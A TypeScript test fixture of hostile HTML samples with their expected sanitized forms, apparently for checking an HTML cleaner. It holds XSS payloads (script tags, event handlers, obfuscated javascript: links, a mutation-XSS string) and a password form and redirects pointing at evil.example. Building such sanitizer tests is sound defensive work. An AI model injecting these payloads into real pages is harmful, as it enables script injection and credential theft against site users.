interface HostileHtml {
  readonly what: string;
  readonly html: string;
  /** The result of cleaning it, which is the same in editor, imports, server and page. */
  readonly clean: string;
}

/** HTML that would run scripts, cover the page or read data, or that cleaning must simplify. */
export const HOSTILE_HTML: readonly HostileHtml[] = [
  { what: 'a script', html: '<p>Hello<script>alert(1)</script></p>', clean: '<p>Hello</p>' },
  {
    what: 'an event handler',
    html: '<p>Hello <img src="/x.png" alt="A" onerror="alert(1)"></p>',
    clean: '<p>Hello <img src="/x.png" alt="A"></p>',
  },
  {
    what: 'a script in a link',
    html: '<p>Hello <a href="javascript:alert(1)">there</a></p>',
    clean: '<p>Hello <a>there</a></p>',
  },
  {
    what: 'a script in a link, with a line break in its scheme',
    html: '<p>Hello <a href=" java&#10;script:alert(1)">there</a></p>',
    clean: '<p>Hello <a>there</a></p>',
  },
  { what: 'a page of data', html: '<p><a href="data:text/html,<b>a">Hello</a></p>', clean: '<p><a>Hello</a></p>' },
  { what: 'a frame', html: '<p>Hello</p><iframe src="https://example.com"></iframe>', clean: '<p>Hello</p>' },
  {
    what: 'a frame with its own page',
    html: '<p>Hello</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    clean: '<p>Hello</p>',
  },
  {
    what: 'a form that asks for a password',
    html: '<p>Hello</p><form action="//evil.example"><input type="password"></form>',
    clean: '<p>Hello</p>',
  },
  {
    what: 'styles that would cover the page',
    html: '<p style="position:fixed" class="overlay">Hello</p><style>p{display:none}</style>',
    clean: '<p>Hello</p>',
  },
  { what: 'an object', html: '<p>Hello</p><object data="/x.swf"></object><embed src="/x.swf">', clean: '<p>Hello</p>' },
  {
    what: 'a drawing with a script',
    html: '<p>Hello</p><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"></a></svg>',
    clean: '<p>Hello</p>',
  },
  {
    what: 'markup that changes when it is parsed again',
    html: '<p>Hello</p><math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    clean: '<p>Hello</p>',
  },
  { what: 'a template', html: '<p>Hello</p><template><script>alert(1)</script></template>', clean: '<p>Hello</p>' },
  { what: 'a new base', html: '<base href="https://evil.example/"><p>Hello</p>', clean: '<p>Hello</p>' },
  {
    what: 'a redirect',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Hello</p>',
    clean: '<p>Hello</p>',
  },
  { what: 'an id that the portal uses', html: '<p id="portal">Hello</p>', clean: '<p>Hello</p>' },
  { what: 'an id that shadows a property', html: '<p id="location">Hello</p>', clean: '<p>Hello</p>' },
  { what: 'data for scripts of the portal', html: '<p data-slot="login-box">Hello</p>', clean: '<p>Hello</p>' },
  {
    what: 'a tab that could navigate this one',
    html: '<p><a href="https://example.com/" target="_blank" rel="opener">Hello</a></p>',
    clean: '<p><a href="https://example.com/" target="_blank" rel="noopener noreferrer">Hello</a></p>',
  },
  {
    what: 'a video that starts by itself',
    html: '<p>Hello</p><video autoplay src="/x.mp4" onplay="alert(1)"></video>',
    clean: '<p>Hello</p>',
  },
  { what: 'a part of the portal', html: '<main><p>Hello</p></main>', clean: '<p>Hello</p>' },
  { what: 'a popover', html: '<p popover="auto" popovertarget="x">Hello</p>', clean: '<p>Hello</p>' },
  {
    what: 'a text pasted from Word as HTML',
    html: `<!--[if gte mso 9]><xml><w:View>Normal</w:View></xml><![endif]--><style><!-- p.MsoNormal {margin:0} --></style><p class=MsoNormal style='margin:0cm'>Stay <b>two nights</b><o:p></o:p></p>`,
    clean: '<p>Stay <b>two nights</b></p>',
  },
  {
    what: 'a text pasted from Google Docs as HTML',
    html: `<meta charset='utf-8'><p dir="ltr" style="line-height:1.38;margin-top:0pt;"><span style="font-weight:700;">Stay</span> two nights</p>`,
    clean: '<p dir="ltr"><span>Stay</span> two nights</p>',
  },
  {
    what: 'a picture that is a script',
    html: '<p>Hello <img src="javascript:alert(1)" alt="A"></p>',
    clean: '<p>Hello <img alt="A"></p>',
  },
];
